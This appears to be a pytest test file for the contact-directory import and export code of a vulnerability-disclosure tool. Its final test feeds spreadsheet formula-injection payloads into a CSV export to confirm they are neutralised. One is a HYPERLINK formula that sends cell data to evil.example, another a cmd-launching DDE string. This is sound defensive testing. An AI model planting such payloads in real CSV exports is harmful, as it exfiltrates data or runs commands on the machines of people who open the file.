"""The contact directory: manual entries, fallbacks, CSV/JSON import and export."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cvdesk.cli.main import main
from cvdesk.domain.errors import InvalidInput
from cvdesk.domain.model import ContactKind, ContactSource
from cvdesk.services.contacts import ContactService, ImportProblems, fallbacks
from cvdesk.settings import load_settings
from cvdesk.store.db import Database


@pytest.fixture
def svc(db: Database) -> ContactService:
    return ContactService(db, load_settings(database_url=db.url))


def test_manual_fallback_and_precedence(svc: ContactService) -> None:
    assert svc.add("Acme", ContactKind.EMAIL, "psirt@acme.example", verified=True)
    assert not svc.add("acme", ContactKind.EMAIL, "psirt@acme.example")  # same org, same value
    for item in fallbacks("acme.example"):
        if item["kind"] == "email":
            svc.add("Acme", ContactKind.EMAIL, item["value"], source=ContactSource.FALLBACK)
    rows = {c.value: c for c in svc.directory("ACME")}
    assert rows["psirt@acme.example"].source == "manual"  # not downgraded by a guess
    assert rows["psirt@acme.example"].verified_at is not None
    assert rows["security@acme.example"].source == "fallback"
    assert rows["security@acme.example"].verified_at is None
    kinds = [f["kind"] for f in fallbacks("acme.example:8443")]
    assert kinds.count("email") == 3 and "platform" in kinds
    assert fallbacks("acme.example:8443")[0]["value"] == "security@acme.example"


def test_import_is_all_or_nothing_and_names_each_bad_row(svc: ContactService) -> None:
    rows = [{"organization": "Beta", "kind": "email", "value": "sec@beta.example"},
            {"organization": "Beta", "kind": "phone", "value": "call me"},
            {"organization": "", "kind": "url", "value": "https://x.example"},
            {"organization": "C", "kind": "email", "value": "a@c.example", "colour": "red"},
            {"organization": "C", "kind": "url", "value": "https://c.example",
             "verified_at": "2026-01-01T00:00"}]
    with pytest.raises(ImportProblems) as err:
        svc.import_rows(rows, "bad.json")
    assert err.value.problems == [
        "row 2: value: 'call me' is not a phone number",
        "row 3: organization: must not be empty",
        "row 4: colour: unknown column",
        "row 5: verified_at: needs a time zone"]
    assert svc.directory() == []


def test_export_then_import_round_trips(svc: ContactService, db_url: str, tmp_path: Path,
                                       capsys: pytest.CaptureFixture[str],
                                       monkeypatch: pytest.MonkeyPatch) -> None:
    svc.add("Acme", ContactKind.EMAIL, "psirt@acme.example", verified=True)
    svc.add("Acme", ContactKind.CSAF_PROVIDER, "https://acme.example/.well-known/csaf/"
            "provider-metadata.json", details={"name": "Acme PSIRT"})
    monkeypatch.setenv("CVDESK_DATABASE_URL", db_url)
    for fmt in ("csv", "json"):
        path = tmp_path / f"dir.{fmt}"
        assert main(["contact", "export", "--format", fmt, "--out", str(path)]) == 0
        exported = svc.export_rows()
        assert main(["contact", "import", str(path)]) == 0
        assert "0 new contact(s)" in capsys.readouterr().out
        assert svc.export_rows() == exported
    data = json.loads((tmp_path / "dir.json").read_text())
    assert data[0]["details"] == {"name": "Acme PSIRT"}
    bad = tmp_path / "bad.csv"
    bad.write_text("organization,kind,value\nX,fax,1\n")
    assert main(["contact", "import", str(bad)]) == 2
    assert "row 1: kind: 'fax' is not one of" in capsys.readouterr().err
    assert main(["contact", "import", str(tmp_path / "dir.txt")]) == 2
    assert main(["contact", "add", "Z", "--kind", "email", "--value", "bad"]) == 2


def test_import_file_reports_progress_and_names_the_file(svc: ContactService,
                                                         tmp_path: Path) -> None:
    rows = [{"organization": f"Org {i}", "kind": "email", "value": f"sec@o{i}.example"}
            for i in range(250)]
    path = tmp_path / "dir.json"
    path.write_text(json.dumps(rows), encoding="utf-8")
    heard: list[tuple[int, int]] = []
    done = svc.import_file(path, progress=lambda d, t: heard.append((d, t)))
    assert (done.rows, done.added) == (250, 250)
    assert heard == [(100, 250), (200, 250), (250, 250)]
    for name, text, problem in [("x.txt", "a", "use a .csv or .json file"),
                                ("x.json", "{", "invalid JSON"),
                                ("x.json", "{}", "expected a JSON list of objects")]:
        bad = tmp_path / name
        bad.write_text(text, encoding="utf-8")
        with pytest.raises(InvalidInput) as err:
            svc.import_file(bad)
        assert err.value.field == "contacts file" and problem in err.value.problem


def test_a_spreadsheets_csv_and_a_huge_file(svc: ContactService, tmp_path: Path) -> None:
    """A CSV saved by a spreadsheet starts with a byte-order mark, which is not part of
    the first column's name; a file over the limit is refused having read no more than
    the limit (a sparse 4 GiB file here)."""
    from cvdesk.services.contacts import MAX_DIRECTORY_BYTES

    excel = tmp_path / "dir.csv"
    excel.write_bytes("\ufefforganization,kind,value\r\nOrg A,email,sec@a.example\r\n"
                      .encode("utf-8"))
    assert svc.import_file(excel).added == 1
    huge = tmp_path / "huge.csv"
    with huge.open("wb") as f:
        f.truncate(4 * 2**30)
    with pytest.raises(InvalidInput) as err:
        svc.import_file(huge)
    assert f"larger than {MAX_DIRECTORY_BYTES // 2**20} MB" in err.value.problem
    binary = tmp_path / "bin.csv"
    binary.write_bytes(b"\xff\xfe\x00o")
    with pytest.raises(InvalidInput, match="not UTF-8 text"):
        svc.import_file(binary)


def test_hostile_directory_files_are_named_problems(svc: ContactService, tmp_path: Path) -> None:
    """A JSON file or a details cell nested deeper than anything a directory holds is
    refused like bad JSON (Python's reader would stop with a RecursionError); a CSV row
    with more cells than the header names says so, not 'None: unknown column'.
    Nothing is imported."""
    svc.add("Kept Inc", ContactKind.EMAIL, "psirt@kept.example")
    before = [(e.organization, e.value) for e in svc.directory()]
    deep = tmp_path / "deep.json"
    deep.write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    with pytest.raises(InvalidInput) as err:
        svc.import_file(deep)
    assert err.value.field == "contacts file"
    assert "invalid JSON (nested more than 64 levels deep)" in err.value.problem
    cell = tmp_path / "cell.csv"
    cell.write_text('organization,kind,value,details\nAcme,email,sec@acme.example,"'
                    + "[" * 5_000 + "]" * 5_000 + '"\n', encoding="utf-8")
    with pytest.raises(ImportProblems) as problems:
        svc.import_file(cell)
    assert problems.value.problems == [
        "row 1: details: not JSON (nested more than 64 levels deep)"]
    extra = tmp_path / "extra.csv"
    extra.write_text("organization,kind,value\nAcme, Inc,email,sec@acme.example\n",
                     encoding="utf-8")
    with pytest.raises(ImportProblems) as problems:
        svc.import_file(extra)
    assert problems.value.problems == [
        "row 1: columns: 1 more cell(s) than the header names; quote a cell that holds "
        "a comma"]
    assert [(e.organization, e.value) for e in svc.directory()] == before


def test_cli_refuses_a_deep_directory_file(db_url: str, tmp_path: Path,
                                           capsys: pytest.CaptureFixture[str]) -> None:
    deep = tmp_path / "deep.json"
    deep.write_text("[" * 5_000 + "]" * 5_000, encoding="utf-8")
    assert main(["--database-url", db_url, "contact", "import", str(deep)]) == 2
    err = capsys.readouterr().err
    assert "nested more than 64 levels deep" in err and "Traceback" not in err


@pytest.mark.parametrize(("text", "says"), [
    ("organization,kind,value\nAcme,email," + "a" * 200_000 + "@x.example\n",
     "line 2: not readable as CSV (field larger than field limit (131072))"),
    ('organization,kind,value\n"Acme,email,sec@acme.example\nOther,email,o@o.example\n',
     "line 3: not readable as CSV (unexpected end of data)"),
    ('organization,kind,value\n"Acme" Inc,email,sec@acme.example\n',
     "line 2: not readable as CSV"),
])
def test_csv_that_cannot_be_read_names_the_line(svc: ContactService, tmp_path: Path,
                                                text: str, says: str) -> None:
    """A cell over csv's limit was a traceback; a quote left open swallowed the rest of
    the file into one cell (and then blamed the 'kind' column)."""
    path = tmp_path / "dir.csv"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(InvalidInput) as err:
        svc.import_file(path)
    assert err.value.field == "contacts file" and says in err.value.problem, err.value.problem
    assert svc.directory() == []


@given(st.text())
def test_a_csv_cell_reads_back_as_its_value(value: str) -> None:
    from cvdesk.services.contacts import csv_cell, csv_value

    cell = csv_cell(value)
    assert csv_value(cell) == value
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_csv_export_does_not_hand_a_spreadsheet_formulas(svc: ContactService,
                                                         db: Database, tmp_path: Path) -> None:
    """Names from strangers (a vendor named in a report, a security.txt) reach the
    export; a cell a spreadsheet would run as a formula gets an apostrophe in front, and
    importing the file gives the same directory back."""
    svc.add('=HYPERLINK("https://evil.example/?"&A1,"open")', ContactKind.EMAIL,
            "psirt@evil.example")
    svc.add("@SUM(1+1)*cmd|' /C calc'!A0", ContactKind.PHONE, "+1 555 0100")
    svc.add("'=already quoted", ContactKind.URL, "https://quoted.example/")
    svc.add("-2+3", ContactKind.EMAIL, "sec@minus.example")
    text, count = svc.export_text("csv")
    assert count == 4
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], cells
    assert "'+1 555 0100" in cells and "''=already quoted" in cells
    exported = svc.export_rows()
    path = tmp_path / "dir.csv"
    path.write_text(text, encoding="utf-8")
    fresh = ContactService(_other_db(tmp_path), svc.settings)
    fresh.import_file(path)
    assert fresh.export_rows() == exported


def _other_db(tmp_path: Path) -> Database:
    from cvdesk.services import init_database

    other = Database(f"sqlite:///{tmp_path / 'other.db'}")
    init_database(other)
    return other
